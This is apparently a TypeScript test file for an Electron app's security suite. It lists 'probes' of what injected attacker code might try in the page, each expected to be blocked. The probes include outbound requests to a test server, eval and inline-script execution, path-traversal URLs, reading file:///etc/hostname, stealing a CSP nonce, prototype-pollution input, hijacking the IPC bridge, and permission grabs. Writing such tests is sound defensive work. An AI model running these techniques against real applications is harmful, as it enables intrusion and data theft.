/**
 * What code of an attacker would try once it runs in the page. Each probe answers true when it got what it wanted.
 * `server` is a listening address outside the application; reaching it counts on the server's side as well.
 * Functions are sent to the page as text, so each stands alone. Code that the policy must refuse runs in a timer: what the
 * debugger evaluates directly is exempt from the policy.
 */
export interface Probe {
  readonly name: string
  readonly run: (server: string) => Promise<boolean> | boolean
  /** False when it fails on any page, guarded or not; it then proves itself by other means. */
  readonly worksUnguarded: boolean
}

const probe = (name: string, run: Probe['run'], worksUnguarded = true): Probe => ({ name, run, worksUnguarded })
const guardedEverywhere = false

/** Every address carries the name of its probe, so that the server can say which one arrived. */
const network: readonly Probe[] = [
  probe('fetch', async (server) => (await fetch(`${server}/fetch`).catch(() => null))?.ok === true),
  probe('fetch-no-cors', (server) =>
    fetch(`${server}/fetch-no-cors`, { mode: 'no-cors' }).then(
      () => true,
      () => false,
    ),
  ),
  probe('fetch-post', async (server) => {
    const sent = await fetch(`${server}/fetch-post`, { method: 'POST', body: 'x' }).catch(() => null)
    return sent?.ok === true
  }),
  probe(
    'xml-http-request',
    (server) =>
      new Promise((done) => {
        const request = new XMLHttpRequest()
        request.onload = () => done(true)
        request.onerror = () => done(false)
        request.open('GET', `${server}/xml-http-request`)
        request.send()
      }),
  ),
  probe(
    'event-source',
    (server) =>
      new Promise((done) => {
        const source = new EventSource(`${server}/event-source`)
        source.onopen = () => done(true)
        source.onerror = () => done(false)
      }),
  ),
  probe(
    'web-socket',
    (server) =>
      new Promise((done) => {
        try {
          const socket = new WebSocket(`${server.replace('http', 'ws')}/web-socket`)
          socket.onopen = () => done(true)
          socket.onerror = () => done(false)
        } catch {
          done(false)
        }
      }),
    guardedEverywhere,
  ),
  probe(
    'image',
    (server) =>
      new Promise((done) => {
        const image = new Image()
        image.onload = () => done(true)
        image.onerror = () => done(false)
        image.src = `${server}/image.svg`
      }),
  ),
  probe(
    'script',
    (server) =>
      new Promise((done) => {
        const script = document.createElement('script')
        script.onload = () => done(true)
        script.onerror = () => done(false)
        script.src = `${server}/script.js`
        document.head.append(script)
      }),
  ),
  probe(
    'dynamic-import',
    (server) =>
      new Promise((done) => {
        setTimeout(() => {
          import(`${server}/dynamic-import.js`).then(
            () => done(true),
            () => done(false),
          )
        })
      }),
  ),
  probe(
    'style-sheet',
    (server) =>
      new Promise((done) => {
        const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${server}/style.css` })
        link.onload = () => done(true)
        link.onerror = () => done(false)
        document.head.append(link)
      }),
  ),
  probe('style-import-with-stolen-nonce', (server) => {
    const style = document.createElement('style')
    style.nonce = document.querySelector<HTMLMetaElement>('meta[property=csp-nonce]')?.content ?? ''
    style.textContent = `@import url(${server}/style-import-with-stolen-nonce.css);`
    document.head.append(style)
    return false
  }),
  probe(
    'font',
    (server) =>
      new FontFace('outside', `url(${server}/font.woff2)`).load().then(
        () => true,
        () => false,
      ),
    guardedEverywhere,
  ),
  probe(
    'frame',
    (server) =>
      new Promise((done) => {
        addEventListener('message', () => done(true), { once: true })
        const frame = document.createElement('iframe')
        frame.src = `${server}/frame.html`
        document.body.append(frame)
        setTimeout(() => done(false), 500)
      }),
  ),
  probe('beacon', (server) => {
    navigator.sendBeacon(`${server}/beacon`, 'x')
    return false
  }),
  probe('prefetch', (server) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: `${server}/prefetch` }))
    return false
  }),
  probe('media', (server) => {
    document.body.append(Object.assign(document.createElement('video'), { src: `${server}/media`, autoplay: true }))
    return false
  }),
  probe('web-rtc-udp', async (server) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(server).host}` }] })
    connection.createDataChannel('out')
    await connection.setLocalDescription()
    return new Promise((done) => setTimeout(() => done(false), 500))
  }),
  probe('web-rtc-tcp', async (server) => {
    const urls = `turn:${new URL(server).host}?transport=tcp`
    const connection = new RTCPeerConnection({ iceServers: [{ urls, username: 'u', credential: 'c' }] })
    connection.createDataChannel('out')
    await connection.setLocalDescription()
    return new Promise((done) => setTimeout(() => done(false), 500))
  }),
  probe('object', (server) => {
    document.body.append(Object.assign(document.createElement('object'), { data: `${server}/object` }))
    return false
  }),
]

const code: readonly Probe[] = [
  probe(
    'eval',
    () =>
      new Promise((done) => {
        setTimeout(() => {
          try {
            done(globalThis.eval('40 + 2') === 42)
          } catch {
            done(false)
          }
        })
      }),
  ),
  probe(
    'function-constructor',
    () =>
      new Promise((done) => {
        setTimeout(() => {
          try {
            done(new Function('return 42')() === 42)
          } catch {
            done(false)
          }
        })
      }),
  ),
  probe('inline-script', () => {
    const script = document.createElement('script')
    script.textContent = 'window.ranInline = true'
    document.head.append(script)
    return 'ranInline' in window
  }),
  probe('inline-handler', () => {
    const button = document.createElement('button')
    button.setAttribute('onclick', 'window.ranHandler = true')
    document.body.append(button)
    button.click()
    return 'ranHandler' in window
  }),
  probe(
    'script-url',
    () =>
      new Promise((done) => {
        const link = Object.assign(document.createElement('a'), { href: 'javascript:void(window.ranUrl = true)' })
        document.body.append(link)
        link.click()
        setTimeout(() => done('ranUrl' in window), 200)
      }),
  ),
  probe(
    'blob-script',
    () =>
      new Promise((done) => {
        const script = document.createElement('script')
        script.onload = () => done(true)
        script.onerror = () => done(false)
        script.src = URL.createObjectURL(new Blob(['0'], { type: 'text/javascript' }))
        document.head.append(script)
      }),
  ),
  probe(
    'data-script',
    () =>
      new Promise((done) => {
        const script = document.createElement('script')
        script.onload = () => done(true)
        script.onerror = () => done(false)
        script.src = 'data:text/javascript,0'
        document.head.append(script)
      }),
  ),
  probe(
    'blob-worker',
    () =>
      new Promise((done) => {
        try {
          const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
          worker.onmessage = () => done(true)
          worker.onerror = () => done(false)
        } catch {
          done(false)
        }
        setTimeout(() => done(false), 500)
      }),
  ),
  probe(
    'web-assembly',
    () =>
      new Promise((done) => {
        setTimeout(() => {
          WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(
            () => done(true),
            () => done(false),
          )
        })
      }),
  ),
  probe(
    'frame-with-own-script',
    () =>
      new Promise((done) => {
        addEventListener('message', () => done(true), { once: true })
        const frame = document.createElement('iframe')
        frame.srcdoc = '<script>parent.postMessage(1, "*")</script>'
        document.body.append(frame)
        setTimeout(() => done(false), 500)
      }),
  ),
]

const files: readonly Probe[] = [
  probe(
    'file-url',
    () =>
      fetch('file:///etc/hostname').then(
        () => true,
        () => false,
      ),
    guardedEverywhere,
  ),
  probe(
    'paths-out-of-the-folder',
    async () => {
      const ways = ['/../package.json', '/..%2f..%2fpackage.json', '/%2e%2e/main/index.js', '/assets/..%5c..%5cmain.js']
      const answers = await Promise.all(ways.map((way) => fetch(way).catch(() => null)))
      return answers.some((answer) => answer?.ok === true)
    },
    guardedEverywhere,
  ),
  probe(
    'other-host-of-the-scheme',
    async () => (await fetch('app://other/index.html').catch(() => null))?.ok === true,
    guardedEverywhere,
  ),
]

const privileges: readonly Probe[] = [
  probe(
    'node-globals',
    () => ['require', 'process', 'module', 'Buffer', 'electron'].some((name) => name in window),
    guardedEverywhere,
  ),
  probe(
    'bridge-in-a-frame',
    () => {
      const frame = document.createElement('iframe')
      document.body.append(frame)
      return frame.contentWindow !== null && 'soCanCuoc' in frame.contentWindow
    },
    guardedEverywhere,
  ),
  probe(
    'bridge-replaced',
    () => {
      const before = window.soCanCuoc.invoke
      try {
        Object.assign(window.soCanCuoc, { invoke: () => Promise.resolve() })
      } catch {
        return false
      }
      return window.soCanCuoc.invoke !== before
    },
    guardedEverywhere,
  ),
  probe(
    'procedure-names-of-the-prototype',
    async () => {
      for (const name of ['__proto__', 'constructor', 'toString', 'hasOwnProperty', '', 'rpc:invoke']) {
        const reply = await window.soCanCuoc.invoke(name, {})
        if (reply.ok || reply.failure.kind !== 'unknown-procedure') return true
      }
      return false
    },
    guardedEverywhere,
  ),
  probe(
    'prototype-pollution-by-input',
    async () => {
      const input = JSON.parse(
        '{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}',
      ) as unknown
      await window.soCanCuoc.invoke('settings.readSettings', input)
      return 'polluted' in Object.prototype
    },
    guardedEverywhere,
  ),
  probe(
    'functions-stolen-by-patched-builtins',
    async () => {
      const seen: unknown[] = []
      const { call, apply } = Function.prototype
      Function.prototype.call = function (...args) {
        seen.push(args[0], this)
        return Reflect.apply(call, this, args) as unknown
      }
      try {
        await window.soCanCuoc.invoke('no.such', {})
      } finally {
        Object.assign(Function.prototype, { call, apply })
      }
      return seen.some((value) => value !== null && typeof value === 'object' && 'sendSync' in value)
    },
    guardedEverywhere,
  ),
  probe(
    'geolocation',
    () =>
      new Promise((done) => {
        navigator.geolocation.getCurrentPosition(
          () => done(true),
          (error) => done(error.code !== error.PERMISSION_DENIED),
        )
      }),
    guardedEverywhere,
  ),
  probe('notifications', async () => (await Notification.requestPermission()) === 'granted', guardedEverywhere),
  probe(
    'clipboard-read',
    () =>
      navigator.clipboard.readText().then(
        () => true,
        () => false,
      ),
    guardedEverywhere,
  ),
  probe(
    'camera',
    () =>
      navigator.mediaDevices.getUserMedia({ video: true }).then(
        () => true,
        () => false,
      ),
    guardedEverywhere,
  ),
  probe(
    'midi',
    () =>
      navigator.requestMIDIAccess({ sysex: true }).then(
        () => true,
        () => false,
      ),
    guardedEverywhere,
  ),
  probe(
    'granted-permissions',
    async () => {
      for (const name of ['geolocation', 'notifications', 'camera', 'microphone', 'midi', 'clipboard-read'] as const) {
        const { state } = await navigator.permissions.query({ name } as unknown as PermissionDescriptor)
        if (state === 'granted') return true
      }
      return false
    },
    guardedEverywhere,
  ),
  probe('new-window', () => window.open('about:blank') !== null, guardedEverywhere),
  probe(
    'service-worker',
    () =>
      navigator.serviceWorker.register('/assets/sw.js').then(
        () => true,
        () => false,
      ),
    guardedEverywhere,
  ),
]

export const probes: readonly Probe[] = [...network, ...code, ...files, ...privileges]

/** Ways to leave the page; each is followed by a look at where the page is. */
export const escapes: readonly { readonly name: string; readonly run: (server: string) => void }[] = [
  { name: 'location', run: (server) => window.location.assign(`${server}/location`) },
  { name: 'file', run: () => window.location.assign('file:///etc/hostname') },
  { name: 'data', run: () => window.location.assign('data:text/html,away') },
  {
    name: 'form',
    run: (server) => {
      const form = Object.assign(document.createElement('form'), { action: `${server}/form`, method: 'post' })
      document.body.append(form)
      form.submit()
    },
  },
  {
    name: 'meta refresh',
    run: (server) => {
      const meta = Object.assign(document.createElement('meta'), {
        httpEquiv: 'refresh',
        content: `0;url=${server}/meta`,
      })
      document.head.append(meta)
    },
  },
  {
    name: 'base and link',
    run: (server) => {
      document.head.append(Object.assign(document.createElement('base'), { href: `${server}/base/` }))
      const link = Object.assign(document.createElement('a'), { href: 'away' })
      document.body.append(link)
      link.click()
    },
  },
]
